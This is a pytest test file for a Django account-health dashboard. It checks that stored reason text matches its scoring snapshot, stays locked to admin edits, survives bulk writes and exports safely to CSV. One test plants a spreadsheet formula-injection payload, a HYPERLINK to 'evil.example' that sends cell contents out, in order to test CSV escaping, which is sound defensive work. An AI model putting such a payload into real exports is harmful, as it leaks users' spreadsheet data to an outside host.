"""Review of "why an account has its color, kept on the account": paths that leave
Account.health_reasons / confidence_reasons different from the words of the scored_on snapshot."""

import datetime as dt
import re

import pytest
from django.contrib import admin
from django.forms.models import model_to_dict
from django.test import RequestFactory

from accounts.models import Account, HealthSnapshot
from accounts.scoring import rules
from accounts.tests import test_confidence
from accounts.tests.factories import TicketFactory
from dashboard.selectors import CSV_HEADER, dashboard_csv_rows
from healthscore import clock

D = test_confidence.D
rescore = test_confidence.rescore
account = test_confidence.account  # the fixture: meeting data 40 days old, plan touched on D, ...


def worded_from_scored_on_snapshot(scored) -> tuple[str, str]:
    snapshot = HealthSnapshot.objects.get(account=scored, date=scored.scored_on)
    measures = [(name, m["color"], m["detail"]) for name, m in snapshot.measures.items()]
    return (
        rules.reasons_text(rules.health_reasons(measures, scored.sentiment_reason)),
        rules.reasons_text(snapshot.inputs["confidence_reasons"]),
    )


def quiet_days(scored) -> dt.date:
    """Scored on D, then days on which nothing the row holds moved: scored_on stays behind the
    latest snapshot (the common state after any quiet nightly run). Returns the next day."""
    rescore(scored)
    rescore(scored, as_of=D + dt.timedelta(days=1))  # the first new day: the confidence may move
    scored_on = scored.scored_on
    rescore(scored, as_of=scored_on + dt.timedelta(days=1))
    assert scored.scored_on == scored_on
    return scored_on + dt.timedelta(days=1)


def test_re_scoring_the_scored_on_day_after_a_later_day_rewords_the_account(account):
    """Re-scoring the scored_on day when a later snapshot exists (a backfill, a re-run of the day,
    a back-dated sentiment) rewrites that day's snapshot: the account's words must follow it."""
    TicketFactory.create_batch(7, account=account, opened=D - dt.timedelta(days=3))
    quiet_days(account)
    scored_on = account.scored_on
    TicketFactory(account=account, opened=scored_on)  # one more ticket that day, still yellow
    rescore(account, as_of=scored_on)
    assert "8 tickets" in HealthSnapshot.objects.get(account=account, date=scored_on).measures["support"]["detail"]
    assert account.scored_on == scored_on
    assert (account.health_reasons, account.confidence_reasons) == worded_from_scored_on_snapshot(account)


def test_the_admin_cannot_edit_the_engines_words(admin_user):
    request = RequestFactory().get("/")
    request.user = admin_user
    fields = admin.site._registry[Account].get_form(request).base_fields
    assert "health_reasons" not in fields
    assert "confidence_reasons" not in fields


@pytest.mark.django_db
def test_an_admin_edit_of_the_words_survives_the_rescore_and_reaches_the_csv_unprotected(
    client, admin_user, account, monkeypatch
):
    """Scored before today, the admin's edit today rescores, nothing the row holds moved, so the
    row is left alone: the admin's text stays on the lists and is exported as is (no leading ')."""
    today = quiet_days(account)
    monkeypatch.setattr(clock, "today", lambda: today)
    data = {k: ("" if v is None else v) for k, v in model_to_dict(account).items() if k != "id"}
    data["health_reasons"] = '=HYPERLINK("http://evil.example/?"&A1,"Support red")'
    client.force_login(admin_user)
    url = f"/admin/accounts/account/{account.pk}/change/"
    page = client.get(url).content.decode()
    for name, value in re.findall(r'name="([^"]+-(?:TOTAL|INITIAL|MIN_NUM|MAX_NUM)_FORMS)"[^>]*value="(\d*)"', page):
        data[name] = value
    for name in [n for n in data if n.endswith("-TOTAL_FORMS")]:
        data[name] = data[name.replace("TOTAL", "INITIAL")]  # no extra (blank) inline form
    assert client.post(url, data).status_code == 302
    account.refresh_from_db()
    _, row = dashboard_csv_rows(Account.objects.filter(pk=account.pk), today)
    assert not row[CSV_HEADER.index("Reasons")].startswith("=")
    assert (account.health_reasons, account.confidence_reasons) == worded_from_scored_on_snapshot(account)


@pytest.mark.parametrize("copy_from", [10_000, 1], ids=["statements", "copy on postgresql"])
def test_the_words_survive_both_write_paths(account, monkeypatch, copy_from):
    """health_update's VALUES and COPY paths (PostgreSQL) both keep the line breaks and quotes."""
    from healthscore import bulk

    monkeypatch.setattr(bulk, "COPY_FROM", copy_from)
    TicketFactory.create_batch(7, account=account, opened=D - dt.timedelta(days=3))
    test_confidence.SentimentFactory(account=account, date=D, color="red", reason='Tab\there, back\\slash "q"\nline')
    rescore(account)
    assert account.health_reasons.split("\n")[-1] == 'TAM Sentiment red: “Tab\there, back\\slash "q" line”'
    assert (account.health_reasons, account.confidence_reasons) == worded_from_scored_on_snapshot(account)
